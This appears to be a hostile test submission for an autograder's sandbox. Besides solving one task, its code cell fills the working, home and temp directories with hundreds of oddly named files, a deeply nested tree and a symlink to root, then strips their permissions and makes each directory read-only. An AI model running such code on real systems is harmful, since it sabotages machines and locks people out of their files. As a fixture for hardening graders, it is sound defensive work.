"""Leaves files nobody can remove easily: without rights, in deep folders, with odd names, many of them."""

CLASS = "harm to others"
DESERVES = 10


def submit(hand_in):
    hand_in.solve("linear_forward")
    hand_in.cell(
        """
        import os

        for top in (".", os.path.expanduser("~"), os.environ.get("TMPDIR", "/tmp")):
            try:
                place = os.path.join(top, "gradestone-attack-litter")
                os.makedirs(place)
                for number in range(300):
                    open(os.path.join(place, f"{number}\\n"), "w").close()
                deep = place
                for _ in range(60):
                    deep = os.path.join(deep, "d")
                    os.mkdir(deep)
                os.symlink("/", os.path.join(place, "root"))
                os.chmod(deep, 0)
                os.chmod(place, 0)
                os.chmod(top, 0o500)
            except OSError as error:
                print(type(error).__name__)
        """
    )
